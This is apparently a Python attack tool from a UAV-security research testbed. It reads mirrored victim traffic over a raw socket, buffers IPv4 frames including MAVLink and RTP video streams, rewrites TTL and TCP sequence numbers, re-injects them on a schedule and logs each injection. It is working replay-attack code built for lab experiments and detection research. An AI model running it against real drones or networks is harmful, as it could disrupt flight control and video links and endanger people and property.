"""Replay attacker: observe the victim's traffic, re-send buffered packets later, log each one.

Every IPv4 packet of the victim is a candidate, whatever its protocol: TCP, and the UDP streams
(MAVLink on 14550, RTP video on 5600); the inject record carries the ports of TCP and UDP copies.

Runs inside the attacker's namespace (`python .../attacks/tools/replayer.py ...`, the
venv's python). The fabric mirrors the victim's host port to the attacker's host port
(`uavcas.attacks.replay.mirror_on`), so the attacker's `eth0` receives a copy of every IPv4 frame the victim
sends or receives, wherever the two are. What the authors' code got wrong, and what we do:

* it sniffed only its own port: we read the mirror, i.e. the victim's real traffic;
* it re-sniffed its own injections: we (a) ignore frames we sent (AF_PACKET `PACKET_OUTGOING`),
  (b) ignore any frame whose (src, dst, proto, ports, IP id, seq, ttl, digest of the bytes above
  the IP header) matches a packet we injected (our injections to the victim come back through
  the mirror; the digest keeps a UDP stream sent with IP id 0, MAVLink or RTP video, from looking
  like our copy of one of its datagrams when the TTL is left as it was), and (c) only buffer
  frames whose TTL is not one we produce by decrementing, so a replay of a replay is impossible;
* it overwrote seq with 0, 1, 2: seq = original + k (`inc`, k = 1, 2, ... per injection),
  uniformly random (`rand`, drawn from the attacker's stream `("replayer", index)` of the plan's
  seed, `uavcas.seeding`), or unchanged (`zero`, the original sequence number).

Buffer: up to `buffer_pkts` frames, first come first served (a full buffer admits nothing new
until a replay frees a slot, like the capture-N-then-replay cycle of the paper's tool but
without its blind spot while sending); a frame becomes due `delay_ms` after it was seen; due
frames are sent oldest first, paced at `rate_pps` (late wake-ups catch up by one period, so
the average rate holds on a loaded machine). Every injected
packet is one JSON line on the log (attacks.jsonl `inject` record). The scapy layers parse and
rebuild (checksums recomputed); a raw AF_PACKET socket does the I/O.
"""

from __future__ import annotations

import argparse
import collections
import json
import select
import signal
import socket
import struct
import sys
import time
import zlib
from dataclasses import dataclass

import numpy as np
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import Ether

from uavcas import seeding
from uavcas.events import Inject
from uavcas.vocabulary import SEQ_MODES

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4


@dataclass(frozen=True)
class Seen:
    """The identity of an IPv4 frame (what an injected packet is recognised by)."""

    src: str
    dst: str
    proto: int
    sport: int | None
    dport: int | None
    ip_id: int
    ttl: int
    seq: int | None
    digest: int = 0  # CRC-32 of the IP payload (transport header and data, up to the IP length)


def parse(frame: bytes) -> Seen | None:
    """Ethernet + IPv4 (+ TCP/UDP ports, TCP seq) without scapy: this runs for every frame."""
    if len(frame) < 34 or frame[12:14] != b"\x08\x00":
        return None
    ihl = (frame[14] & 0x0F) * 4
    if frame[14] >> 4 != 4 or ihl < 20 or len(frame) < 14 + ihl:
        return None
    ip_id = struct.unpack_from("!H", frame, 18)[0]
    ttl, proto = frame[22], frame[23]
    src, dst = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
    l4 = 14 + ihl
    sport = dport = seq = None
    if proto in (6, 17) and len(frame) >= l4 + 4:
        sport, dport = struct.unpack_from("!HH", frame, l4)
        if proto == 6 and len(frame) >= l4 + 8:
            seq = struct.unpack_from("!I", frame, l4 + 4)[0]
    ip_end = 14 + struct.unpack_from("!H", frame, 16)[0]  # Ethernet padding is no part of the packet
    return Seen(src, dst, proto, sport, dport, ip_id, ttl, seq, zlib.crc32(frame[l4:ip_end]))


def new_seq(orig: int, k: int, mode: str, rng: np.random.Generator) -> int:
    if mode == "inc":
        return (orig + k) & 0xFFFFFFFF
    if mode == "rand":
        return int(rng.integers(0, 1 << 32))
    if mode == "zero":
        return orig
    raise ValueError(f"seq mode {mode!r} not in {SEQ_MODES}")


def mutate(frame: bytes, k: int, mode: str, ttl_dec: int, rng: np.random.Generator) -> tuple[bytes, int | None]:
    """The injected frame: TTL - ttl_dec, TCP seq per mode, checksums recomputed (scapy)."""
    pkt = Ether(frame)
    ip = pkt[IP]
    ip.ttl = max(1, ip.ttl - ttl_dec)
    del ip.chksum
    seq = None
    if TCP in pkt:
        pkt[TCP].seq = new_seq(pkt[TCP].seq, k, mode, rng)
        seq = pkt[TCP].seq
        del pkt[TCP].chksum
    elif UDP in pkt:
        del pkt[UDP].chksum
    return bytes(pkt), seq


class Replayer:
    def __init__(self, victim_ip: str, attacker_ip: str, buffer_pkts: int, delay_ms: float, rate_pps: float,
                 ttl_dec: int, seq_mode: str, seed: int = 0, index: int = 0) -> None:
        if seq_mode not in SEQ_MODES:
            raise ValueError(f"seq mode {seq_mode!r} not in {SEQ_MODES}")
        self.victim, self.attacker = victim_ip, attacker_ip
        self.capacity = max(1, int(buffer_pkts))
        self.buffer: collections.deque[tuple[float, bytes, Seen]] = collections.deque()
        self.delay_s, self.period_s = delay_ms / 1000.0, 1.0 / max(rate_pps, 1e-3)
        self.ttl_dec, self.mode = int(ttl_dec), seq_mode
        self.rng = seeding.generator(seed, "replayer", index)  # the plan's seed, the attacker's index
        self.injected: set[Seen] = set()
        self.ttls_out: set[int] = set()  # TTLs our injections carry (ttl_dec >= 1 makes them unusual)
        self.k = 0
        self.next_send = 0.0
        self.stats = {"seen": 0, "buffered": 0, "own_ignored": 0, "buffer_full": 0, "injected": 0}

    def observe(self, now: float, frame: bytes, outgoing: bool = False) -> bool:
        """Buffer a mirrored frame of the victim's traffic; False when it is ignored."""
        if outgoing:
            return False
        s = parse(frame)
        if s is None or self.victim not in (s.src, s.dst) or self.attacker in (s.src, s.dst):
            return False
        self.stats["seen"] += 1
        if s in self.injected or (self.ttl_dec > 0 and s.ttl in self.ttls_out):
            self.stats["own_ignored"] += 1
            return False
        if len(self.buffer) >= self.capacity:
            self.stats["buffer_full"] += 1
            return False
        self.buffer.append((now, frame, s))
        self.stats["buffered"] += 1
        return True

    def due(self, now: float) -> bool:
        return bool(self.buffer) and now >= self.next_send and now >= self.buffer[0][0] + self.delay_s

    def wait_s(self, now: float) -> float:
        if not self.buffer:
            return 0.05
        return max(0.0, max(self.next_send, self.buffer[0][0] + self.delay_s) - now)

    def next_injection(self, now: float) -> tuple[bytes, dict]:
        _, frame, orig = self.buffer.popleft()
        self.k += 1
        out, seq = mutate(frame, self.k, self.mode, self.ttl_dec, self.rng)
        s = parse(out)
        self.injected.add(s)
        self.ttls_out.add(s.ttl)
        if len(self.injected) > 100_000:  # bounded memory on very long runs
            self.injected.clear()
        # Catch up at most one period after a late wake-up: the configured rate is an average.
        base = self.next_send if now - self.next_send < self.period_s else now
        self.next_send = base + self.period_s
        self.stats["injected"] += 1
        rec = {"src_ip": s.src, "dst_ip": s.dst, "src_port": s.sport, "dst_port": s.dport, "protocol": s.proto,
               "ip_id": s.ip_id, "ttl": s.ttl, "seq": seq, "orig_seq": orig.seq, "orig_ttl": orig.ttl}
        return out, rec


def run(args: argparse.Namespace) -> dict:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    sock.bind((args.iface, ETH_P_IP))
    sock.setblocking(False)
    rep = Replayer(args.victim, args.attacker_ip, args.buffer, args.delay_ms, args.rate_pps, args.ttl_dec,
                   args.seq_mode, args.seed, args.index)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))

    log = open(args.log, "a", buffering=1)
    print("ready", flush=True)
    end = time.monotonic() + args.seconds
    while not stop and time.monotonic() < end:
        r, _, _ = select.select([sock], [], [], min(0.05, rep.wait_s(time.time())))
        if r:
            for _ in range(256):
                try:
                    frame, addr = sock.recvfrom(65535)
                except BlockingIOError:
                    break
                rep.observe(time.time(), frame, outgoing=addr[2] == PACKET_OUTGOING)
        now = time.time()
        while rep.due(now):
            out, rec = rep.next_injection(now)
            t = time.time()
            sock.send(out)
            log.write(Inject(attack_id=args.attack_id, family=args.family, t_unix=t, **rec).to_line())
            now = time.time()
    log.close()
    return rep.stats


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    ap = argparse.ArgumentParser(prog="replayer.py", description=__doc__.splitlines()[0])
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--victim", required=True)
    ap.add_argument("--attacker-ip", required=True)
    ap.add_argument("--buffer", type=int, required=True)
    ap.add_argument("--delay-ms", type=float, required=True)
    ap.add_argument("--rate-pps", type=float, required=True)
    ap.add_argument("--ttl-dec", type=int, required=True)
    ap.add_argument("--seq-mode", choices=SEQ_MODES, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--seed", type=int, default=0, help="The plan's seed.")
    ap.add_argument("--index", type=int, default=0, help="The attacker's index in the plan (its own stream).")
    ap.add_argument("--attack-id", required=True)
    ap.add_argument("--family", required=True, help="Attack family written into the inject records.")
    ap.add_argument("--log", required=True)
    return ap.parse_args(argv)


def main(argv: list[str] | None = None) -> None:
    stats = run(parse_args(argv))
    print(json.dumps({"stats": stats}), flush=True)
    sys.exit(0)


if __name__ == "__main__":  # run by its path (uavcas.attacks.tools.tool_path)
    main()
